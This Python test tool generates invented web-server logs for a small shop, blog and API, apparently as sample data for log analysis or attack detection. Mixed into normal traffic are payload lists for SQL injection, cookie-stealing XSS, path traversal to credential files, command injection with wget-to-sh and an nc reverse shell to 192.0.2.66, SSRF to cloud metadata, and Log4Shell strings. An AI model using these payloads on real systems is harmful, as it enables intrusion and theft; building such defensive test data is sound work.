"""Makes the bundled samples, data/sample/*.log: `python -m tests.tools.make_samples`.

Two hours of one small company: a web server with a shop, a blog and an API, and the
authentication log of four machines. Everything is invented; addresses are from ranges set apart
for documentation, benchmarks and shared or private use, so that no real host is accused.
"""

import math
import random
import sys
from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path
from typing import Final
from urllib.parse import quote, quote_plus

from tests.tools.make_auth_sample import DURATION_S, START, auth_log, words

FOLDER: Final = Path(__file__).resolve().parents[2] / "data" / "sample"

_BROWSERS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/133.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:135.0) Gecko/20100101 Firefox/135.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.3 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/133.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/132.0.0.0 Safari/537.36 Edg/132.0.0.0",
)
_BOTS: Final = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; ExampleSearch/3.1; +https://search.example/about/bot)",
    "FeedReader/2.4 (+https://feeds.example/; 14 subscribers)",
)
_WORDS: Final = words(
    "lamp chair oak desk kettle blanket bicycle helmet tent stove mug rug shelf clock mirror "
    "vase sofa cushion lantern basket drawer candle teapot hammock stool"
)
_POSTS: Final = words(
    "spring-table-settings how-we-plane-oak repairing-a-wobbly-chair select-the-right-size "
    "union-of-wood-and-steel our-new-workshop a-script-for-better-mornings exec-chairs-compared "
    "packing-without-plastic the-etc-drawer linseed-oil-explained meet-the-team"
)
# Harmless, although a careless detector would start at every one of them.
_ODD_QUERIES: Final = (
    "q=O%27Brien+lamp", "q=select+a+size", "q=union+jack+cushion", "q=drop+leaf+table",
    "q=%3C3+cats+mug", "q=rock+%26+roll+clock", "q=100%25+wool", "q=1+or+2+seater",
    "filter%5Bprice%5D%5Blt%5D=100&sort=-created_at", "q=script+font+sign", "q=and+so+on...",
    "where=%7B%22category%22%3A%22lamps%22%7D", "q=%22exact+phrase%22", "q=caf%C3%A9+table",
    "callback=jQuery341039_1741597&_=1741597200123", "q=--+brass+--", "q=C%2B%2B+desk+mat",
    "state=eyJ2IjoxLCJyIjoiL2FjY291bnQifQ%3D%3D", "fields=id,name,price&expand=images(url,alt)",
    "q=sleep+mask", "redirect=%2Faccount%2Forders", "q=%E7%81%AF", "next=https%3A%2F%2Fshop.example"
    "%2Fbasket", "ids=12,15,19,22&cache=false", "since=2026-03-01T00%3A00%3A00%2B01%3A00",
)  # fmt: skip
_MISSING: Final = (
    "/apple-touch-icon.png", "/apple-touch-icon-precomposed.png", "/ads.txt", "/security.txt",
    "/shop/product/904", "/blog/summer-sale-2023", "/img/logo-old.gif", "/humans.txt",
    "/.well-known/assetlinks.json", "/browserconfig.xml", "/blog/feed.rss",
)  # fmt: skip
_SQLI: Final = (
    "{n}'", "{n}' AND {a}={a}-- -", "{n}' AND {a}={b}-- -", "{n}) OR ({a}={a}",
    "{n}' ORDER BY {k}-- -", "-{n}' UNION ALL SELECT NULL,NULL,CONCAT(0x71,IFNULL(CAST(CURRENT_USER"
    "() AS CHAR),0x20),0x71)-- -", "{n} AND (SELECT {a} FROM (SELECT(SLEEP({k})))x)",
    "{n};SELECT PG_SLEEP({k})--", "{n}' AND EXTRACTVALUE({a},CONCAT(0x5c,(SELECT version())))-- -",
    "-{n} UNION SELECT 1,table_name,3 FROM information_schema.tables WHERE table_schema=database()",
    "-{n}' UNION SELECT 1,group_concat(email,0x3a,password_hash),3 FROM users-- -",
    "{n}' OR '{a}'='{a}", "{n}'/**/OR/**/{a}={a}#", "(SELECT CHAR(113)||CHAR({k}))",
)  # fmt: skip
_XSS: Final = (
    "<script>alert({a})</script>", '"><svg onload=alert({a})>', "<img src=x onerror=alert({a})>",
    "javascript:alert(document.domain)", "'-alert({a})-'", "<ScRiPt>fetch('//192.0.2.66/c?'+"
    "document.cookie)</sCrIpT>", "<body onpageshow=confirm`{a}`>", "</title><script src=//192.0.2."
    "66/x.js></script>", "<iframe srcdoc='<script>parent.alert({a})</script>'>",
    "<details open ontoggle=eval(atob('YWxlcnQoMSk='))>",
)  # fmt: skip
_TRAVERSAL: Final = (
    "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/shadow",
    "..%252f..%252f..%252fetc%252fpasswd", "/etc/passwd%00.pdf", "..\\..\\..\\windows\\win.ini",
    "%2e%2e/%2e%2e/%2e%2e/proc/self/environ", "file:///etc/hosts", "..%c0%af..%c0%afetc/passwd",
    "../../../../var/www/shop/config/database.yml", "php://filter/convert.base64-encode/resource="
    "index", "../../../../home/deploy/.ssh/id_rsa",
)  # fmt: skip
_COMMANDS: Final = (
    "127.0.0.1;id", "127.0.0.1|cat /etc/passwd", "127.0.0.1&&whoami", "$(curl http://192.0.2.66/s)",
    "`wget -qO- http://192.0.2.66/i.sh|sh`", "127.0.0.1%0auname -a", ";nc -e /bin/sh 192.0.2.66 "
    "4444", "127.0.0.1|ping -c 5 192.0.2.66", "||sleep 8",
    "127.0.0.1;echo${IFS}c2g=|base64${IFS}-d",
)  # fmt: skip
_SCANNED: Final = (
    "/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.aws/credentials",
    "/.htpasswd", "/admin/", "/administrator/index.php", "/backup.zip", "/backup.sql", "/db.sql.gz",
    "/cgi-bin/test.cgi", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/config.php.bak", "/console/",
    "/debug/default/view?panel=config", "/dump.sql", "/elmah.axd", "/etc/passwd", "/hudson/",
    "/info.php", "/jenkins/script", "/manager/html", "/phpinfo.php", "/phpmyadmin/index.php",
    "/pma/", "/server-status", "/shell.php", "/solr/admin/info/system", "/actuator/env",
    "/actuator/heapdump", "/api/swagger.json", "/test.php?cmd=id", "/wp-admin/install.php",
    "/wp-config.php.bak", "/wp-content/debug.log", "/wp-login.php", "/xmlrpc.php", "/web.config",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?XDEBUG_SESSION_START=phpstorm",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=phpinfo", "/boaform/admin/formLogin",
    "/owa/auth/logon.aspx", "/remote/login", "/HNAP1/", "/GponForm/diag_Form?images/",
    "/struts2-showcase/index.action", "/_ignition/execute-solution", "/telescope/requests",
)  # fmt: skip
_SSRF: Final = (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/",
    "http://localhost:9200/_cat/indices", "http://[::1]:22/", "gopher://127.0.0.1:11211/_stats",
    "http://metadata.google.internal/computeMetadata/v1/", "http://0x7f000001/admin",
    "file:///proc/self/environ", "http://10.20.0.5:8500/v1/agent/self",
)  # fmt: skip
_JNDI: Final = (
    "${jndi:ldap://192.0.2.66:1389/a}", "${${lower:j}ndi:${lower:l}dap://192.0.2.66/b}",
    "${jndi:dns://192.0.2.66/${hostName}}", "${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.66/c}",
)  # fmt: skip


class _WebLog:
    """Collects requests; each call adds one line."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.lines: list[tuple[float, str]] = []

    def add(
        self,
        at_s: float,
        client: str,
        url: str,
        status: int = 200,
        *,
        method: str = "GET",
        size: int | None = None,
        referrer: str = "-",
        agent: str = "-",
        user: str = "-",
    ) -> None:
        if not 0 <= at_s < DURATION_S:
            return
        if size is None:
            size = int(self.rng.lognormvariate(8.6, 1.1)) if status == 200 else 169
        length = "-" if status in {204, 304} else str(size)
        stamp = (START + timedelta(seconds=int(at_s))).strftime("%d/%b/%Y:%H:%M:%S +0000")
        url = url.replace("\\", "\\\\").replace('"', '\\"')
        request = f"{method} {url} HTTP/{'2.0' if agent in _BROWSERS else '1.1'}"
        agent = agent.replace('"', '\\"')
        line = f'{client} - {user} [{stamp}] "{request}" {status} {length} "{referrer}" "{agent}"'
        self.lines.append((at_s, line))


def _zipf(rng: random.Random, items: Sequence[str], exponent: float = 1.1) -> str:
    weights = [1 / (rank**exponent) for rank in range(1, len(items) + 1)]
    return rng.choices(items, weights)[0]


def _visitor_address(rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.12:
        site, net, host = (rng.randrange(1, limit) for limit in (0xFFFF, 16, 0xFFFF))
        return f"2001:db8:{site:x}:{net:x}::{host:x}"
    if kind < 0.55:
        return f"100.{rng.randrange(64, 128)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    return f"198.{rng.choice((18, 19))}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _arrivals(rng: random.Random, mean: float) -> list[float]:
    """Arrival times of a stream whose rate rises and falls, and flutters from minute to minute."""
    times: list[float] = []
    for minute in range(DURATION_S // 60):
        wave = 1 + 0.35 * math.sin(2 * math.pi * (minute - 20) / 95)
        count = rng.gauss(mean * wave, math.sqrt(mean * wave))
        times += [minute * 60 + rng.random() * 60 for _ in range(max(0, round(count)))]
    return sorted(times)


def _pages(rng: random.Random) -> list[str]:
    pages = ["/", "/shop/", "/blog/", "/about", "/contact"]
    pages += [f"/shop/product/{100 + i}" for i in range(60)]
    pages += [f"/shop/category/{word}s" for word in _WORDS[:14]]
    pages += [f"/blog/2026/{1 + i % 3:02d}/{post}" for i, post in enumerate(_POSTS)]
    tail = pages[5:]
    rng.shuffle(tail)
    return pages[:5] + tail


def _visit(log: _WebLog, at_s: float, pages: Sequence[str]) -> None:
    """One person: some pages, what they pull in, perhaps a search or a purchase."""
    rng = log.rng
    client, agent = _visitor_address(rng), _zipf(rng, _BROWSERS, 0.7)
    referrer = rng.choice(("-", "-", "https://www.google.com/", "https://news.example/weekly"))
    is_new = rng.random() < 0.6
    for step in range(1 + min(9, int(rng.expovariate(0.5)))):
        page = _zipf(rng, pages)
        if rng.random() < 0.12:
            page = "/shop/search?" + (
                rng.choice(_ODD_QUERIES) if rng.random() < 0.5 else f"q={_zipf(rng, _WORDS)}&page=1"
            )
        elif rng.random() < 0.1:
            page += "?utm_source=newsletter&utm_medium=email&utm_campaign=spring_26"
        log.add(at_s, client, page, referrer=referrer, agent=agent)
        if step == 0:
            for asset in ("/css/site.3f9c1e.css", "/js/app.81b2d0.js", "/img/logo.svg"):
                status = 200 if is_new else 304
                log.add(
                    at_s + rng.random(), client, asset, status,
                    referrer="https://shop.example" + page, agent=agent,
                )  # fmt: skip
        if "/product/" in page and rng.random() < 0.7:
            number = page.split("?")[0].rsplit("/", 1)[1]
            log.add(
                at_s + 1, client, f"/img/products/{number}-{rng.randrange(1, 5)}.webp",
                referrer="https://shop.example" + page, agent=agent,
            )  # fmt: skip
            if rng.random() < 0.15:
                log.add(
                    at_s + 20, client, "/shop/basket/items", 303, method="POST",
                    referrer="https://shop.example" + page, agent=agent,
                )  # fmt: skip
        if rng.random() < 0.04:
            log.add(at_s + 2, client, _zipf(rng, _MISSING), 404, agent=agent)
        referrer = "https://shop.example" + page
        at_s += 4 + rng.expovariate(1 / 35)


def _machines(log: _WebLog, pages: Sequence[str]) -> None:
    """Crawlers, a health check, and programs that use the API."""
    rng = log.rng
    for number, agent in enumerate(_BOTS):
        client = f"198.51.100.{20 + number}"
        for at_s in _arrivals(rng, 1.6):
            url = rng.choice(("/robots.txt", "/sitemap.xml", "/blog/feed.xml", *pages))
            log.add(at_s, client, url, 304 if rng.random() < 0.2 else 200, agent=agent)
    for at_s in range(7, DURATION_S, 30):
        log.add(at_s, "10.20.0.9", "/healthz", size=2, agent="uptime-check/1.8")
    partners = (("203.0.113.12", "partner-sync/4.2"), ("203.0.113.13", "python-requests/2.32.3"))
    for at_s in _arrivals(rng, 6.0):
        client, agent = rng.choice(partners)
        number = rng.randrange(100, 160)
        url, method, status = rng.choice(
            (
                (f"/api/v1/products/{number}", "GET", 200),
                (f"/api/v1/products?{rng.choice(_ODD_QUERIES)}", "GET", 200),
                (f"/api/v1/stock/{number}", "PUT", 204),
                (
                    f"/api/v1/orders?since=2026-03-10T{9 + int(at_s // 3600):02d}%3A00%3A00Z",
                    "GET",
                    200,
                ),
                ("/api/v1/orders", "POST", 201),
                (f"/api/v1/products/{number + 700}", "GET", 404),
            )
        )
        log.add(at_s, client, url, status, method=method, agent=agent, user="partner")


def _filled(rng: random.Random, text: str) -> str:
    """A payload with numbers in its gaps."""
    numbers = {"n": rng.randrange(100, 160), "a": rng.randrange(1000, 9999)}
    numbers |= {"b": rng.randrange(1000, 9999), "k": rng.randrange(2, 9)}
    for name, number in numbers.items():
        text = text.replace("{" + name + "}", str(number))
    return text


def _tools(log: _WebLog) -> None:
    """A scanner goes through its list, some of it twice, and a tool for SQL injection runs."""
    rng = log.rng
    at_s = 1_260.0
    for i in range(170):
        url = _SCANNED[i % len(_SCANNED)] if i < 120 else f"/{rng.choice(_WORDS)}.php~"
        agent = f"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{i:06d})"
        log.add(at_s, "203.0.113.66", url, rng.choice((404, 404, 404, 403)), agent=agent)
        at_s += rng.expovariate(1.2)
    at_s = 2_700.0
    for i in range(64):
        text = _filled(rng, _SQLI[i % len(_SQLI)])
        encoded = quote_plus(text) if i % 3 else quote(text)
        agent = "sqlmap/1.9.2#stable (https://sqlmap.org)" if i % 5 else _BROWSERS[5]
        status = rng.choice((200, 200, 500))
        log.add(at_s, "198.51.100.173", f"/shop/reviews?product={encoded}", status, agent=agent)
        at_s += 0.6 + rng.expovariate(0.5)


def _injections(log: _WebLog) -> None:
    """Four episodes, each with its own address, place, pace and program."""
    rng = log.rng
    episodes = (
        (3_900, "192.0.2.113", 26, "/shop/search?q=", _XSS, _BROWSERS[0], 11.0),
        (4_500, "203.0.113.201", 24, "/download?file=", _TRAVERSAL, "curl/8.11.1", 6.0),
        (5_100, "192.0.2.190", 18, "/tools/ping?host=", _COMMANDS, "python-requests/2.31.0", 9.0),
        (6_400, "198.51.100.90", 14, "/api/v1/fetch?url=", _SSRF, "Go-http-client/1.1", 13.0),
    )
    for start, client, count, path, payloads, agent, pause_s in episodes:
        at_s = float(start)
        for i in range(count):
            text = _filled(rng, payloads[i % len(payloads)])
            encoded = text.replace(" ", "%20") if "%" in text else quote(text, safe="/:.")
            log.add(at_s, client, path + encoded, rng.choice((200, 400, 403, 404)), agent=agent)
            at_s += rng.expovariate(1 / pause_s)


def _probes_and_guesses(log: _WebLog) -> None:
    """One probe in the URL, the agent and the referrer; passwords tried at the shop's login."""
    rng = log.rng
    at_s = 5_800.0
    for i in range(12):
        probe = _JNDI[i % len(_JNDI)]
        url = f"/?x={quote(probe, safe='${}:/')}" if i % 3 == 0 else "/"
        log.add(
            at_s, "203.0.113.99", url, 200,
            agent=probe if i % 3 == 1 else "Mozilla/5.0 zgrab/0.x",
            referrer=probe if i % 3 == 2 else "-",
        )  # fmt: skip
        at_s += rng.expovariate(0.2)
    at_s = 3_300.0
    for _ in range(45):
        log.add(
            at_s, "192.0.2.77", "/account/login", 401, method="POST", size=412,
            referrer="https://shop.example/account/login", agent=_BROWSERS[1],
        )  # fmt: skip
        at_s += 1 + rng.expovariate(1)


def web_log() -> str:
    """The text of web-access.log."""
    rng = random.Random(20260310)  # noqa: S311 - a fixed seed is the point
    log = _WebLog(rng)
    pages = _pages(rng)
    for at_s in _arrivals(rng, 5.1):
        _visit(log, at_s, pages)
    _machines(log, pages)
    _tools(log)
    _injections(log)
    _probes_and_guesses(log)
    log.lines.sort(key=lambda entry: int(entry[0]))
    return "".join(f"{line}\n" for _, line in log.lines)


def main(folder: Path = FOLDER) -> None:
    """Write both samples."""
    (folder / "web-access.log").write_text(web_log(), newline="\n")
    (folder / "auth.log").write_text(auth_log(), newline="\n")


if __name__ == "__main__":
    main(*(Path(argument) for argument in sys.argv[1:2]))
